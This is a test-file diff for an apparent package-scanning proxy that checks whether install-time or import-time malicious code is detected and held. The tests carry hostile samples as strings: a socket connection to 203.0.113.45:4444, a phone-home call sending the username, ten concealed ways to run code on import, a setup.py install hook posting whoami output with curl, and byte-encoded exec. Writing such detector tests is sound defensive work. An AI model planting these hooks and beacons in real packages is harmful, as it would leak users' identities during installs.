@@ -17,9 +17,11 @@ from __future__ import annotations
 
 import ast
 
+import pytest
+
 from pipgate.proxy.scan.constants import propagate_constants
 from pipgate.proxy.scan.inlining import inline_literal_exec
-from tests.support.archives import wheel
+from tests.support.archives import pkg_info, sdist, wheel
 from tests.support.scan import judge, judge_setup_script
 
 WHEEL = "demo-1.0-py3-none-any.whl"
@@ -105,6 +107,16 @@ def test_a_python_one_liner_started_from_names_on_import_is_install_python() -> 
     assert held
 
 
+def test_a_python_one_liner_started_from_names_bound_by_unpacking_is_install_python() -> None:
+    rules, held = _init(
+        "import subprocess\n"
+        "S0, S1 = 'python3', 'import socket; socket.create_connection((\"203.0.113.45\", 4444))'\n"
+        "subprocess.Popen([S0, '-c', S1], close_fds=True)\n"
+    )
+    assert rules["install-python"] == 8
+    assert held
+
+
 def test_a_command_spelled_as_bytes_joined_characters_or_a_format_is_read() -> None:
     for spelled in (
         f"{COMMAND.encode()!r}.decode()",
@@ -167,3 +179,127 @@ def test_a_session_send_replaced_by_one_that_only_adds_a_header_is_not() -> None
     )
     assert "patch-exfil" not in rules
     assert not held
+
+
+# -- what runs on import, reached in other ways -------------------------------------------
+
+PHONE_HOME = "urllib.request.urlopen('http://203.0.113.45/?u=' + getpass.getuser())"
+
+
+def _runs_on_import(shape: str) -> tuple[dict[str, float], bool]:
+    return _init(f"import urllib.request, getpass, atexit, sys\n{shape}")
+
+
+SHAPES = {
+    "default value": f"def f(x={PHONE_HOME}):\n    pass\n",
+    "atexit": f"def f():\n    {PHONE_HOME}\natexit.register(f)\n",
+    "table of functions": f"def f():\n    {PHONE_HOME}\nH = {{'a': f}}\nH['a']()\n",
+    "loop over functions": f"def f():\n    {PHONE_HOME}\nfor step in [f]:\n    step()\n",
+    "globals()": f"def f():\n    {PHONE_HOME}\nglobals()['f']()\n",
+    "getattr": f"def f():\n    {PHONE_HOME}\ngetattr(sys.modules[__name__], 'f')()\n",
+    "map": f"def f(u):\n    {PHONE_HOME}\nlist(map(f, [1]))\n",
+    "metaclass": f"class M(type):\n    def __new__(m, n, b, d):\n        {PHONE_HOME}\n        return super().__new__(m, n, b, d)\nclass C(metaclass=M):\n    pass\n",
+    "__init_subclass__": f"class B:\n    def __init_subclass__(cls):\n        {PHONE_HOME}\nclass C(B):\n    pass\n",
+    "__del__": f"class X:\n    def __del__(self):\n        {PHONE_HOME}\nX()\n",
+}
+
+
+@pytest.mark.parametrize("shape", sorted(SHAPES))
+def test_code_reached_on_import_in_less_common_ways_runs_on_import(shape: str) -> None:
+    rules, held = _runs_on_import(SHAPES[shape])
+    assert rules.get("phone-home") == 10
+    assert rules.get("import-network") == 5
+    assert held
+
+
+def test_a_function_only_defined_or_only_stored_does_not_run_on_import() -> None:
+    for code in (
+        f"def f():\n    {PHONE_HOME}\n",
+        f"def f():\n    {PHONE_HOME}\nH = {{'a': f}}\n",
+        f"class X:\n    def __del__(self):\n        {PHONE_HOME}\n",
+    ):
+        rules, held = _runs_on_import(code)
+        assert "import-network" not in rules, code
+        assert not held, code
+
+
+# -- setup code moved into a module setup.py imports ------------------------------------------
+
+
+def test_a_package_whose_only_code_is_setup_code_in_a_helper_is_still_a_placeholder() -> None:
+    files = {
+        "setup.py": "import _setup_impl\nfrom setuptools import setup\nsetup(name='demo', version='1.0')\n",
+        "_setup_impl.py": "import socket\nsocket.gethostbyname('demo.203-0-113-45.example.net')\n",
+        "PKG-INFO": pkg_info("demo"),
+    }
+    rules, _ = judge(sdist(files), "demo-1.0.tar.gz")
+    assert rules["placeholder"] == 4  # nothing of its own, and its install calls out
+
+
+def test_a_helper_the_package_installs_is_the_package_s_code() -> None:
+    files = {
+        "setup.py": "import demo\nfrom setuptools import setup\nsetup(name='demo', version='1.0', py_modules=['demo'])\n",
+        "demo.py": "def add(a, b):\n    return a + b\n",
+        "PKG-INFO": pkg_info("demo"),
+        "demo.egg-info/top_level.txt": "demo\n",
+    }
+    rules, held = judge(sdist(files), "demo-1.0.tar.gz")
+    assert "placeholder" not in rules
+    assert not held
+
+
+def test_code_spelled_as_byte_codes_into_exec_is_decode_exec() -> None:
+    code = list(b"import os\nos.system('id > /dev/null')\n")
+    rules, held = _init(f"exec(bytes({code!r}))\n")
+    assert rules["decode-exec"] == 10
+    assert held
+
+
+def test_a_short_header_of_byte_codes_is_no_payload() -> None:
+    rules, held = _init(
+        "import zlib\nMAGIC = bytes([137, 80, 78, 71])\nexec(MAGIC.decode('latin-1'))\n"
+    )
+    assert "decode-exec" not in rules
+    assert not held
+
+
+# -- imports spelled as calls -------------------------------------------------------------------
+
+SETUP_HOOK = (
+    "class CustomInstall(install):\n"
+    "    def run(self):\n"
+    "        pre_install()\n"
+    "        super().run()\n"
+    "setup(name='demo', version='1.0', cmdclass={'install': CustomInstall})\n"
+)
+BEACON = (
+    "def pre_install():\n"
+    "    subprocess.run('curl -X POST -H \"Whoami: $(whoami)\" https://x.oast.fun', shell=True)\n"
+)
+
+
+def _beacon(setup_imports: str, module_imports: str) -> tuple[dict[str, float], bool]:
+    files = {
+        "setup.py": setup_imports + SETUP_HOOK,
+        "pre_install.py": module_imports + BEACON,
+        "PKG-INFO": pkg_info("demo"),
+    }
+    return judge(sdist(files), "demo-1.0.tar.gz")
+
+
+def test_a_beacon_whose_modules_are_imported_by_calls_is_read_as_if_imported() -> None:
+    spelled = _beacon(
+        "setup = __import__('setuptools').setup\n"
+        "from setuptools.command.install import install\n"
+        "pre_install = __import__('pre_install').pre_install\n",
+        "import importlib\nsubprocess = importlib.import_module('subprocess')\n",
+    )
+    plain = _beacon(
+        "from setuptools import setup\n"
+        "from setuptools.command.install import install\n"
+        "from pre_install import pre_install\n",
+        "import subprocess\n",
+    )
+    assert spelled == plain
+    assert plain[0]["exfil-sink"] >= 6
+    assert plain[1]
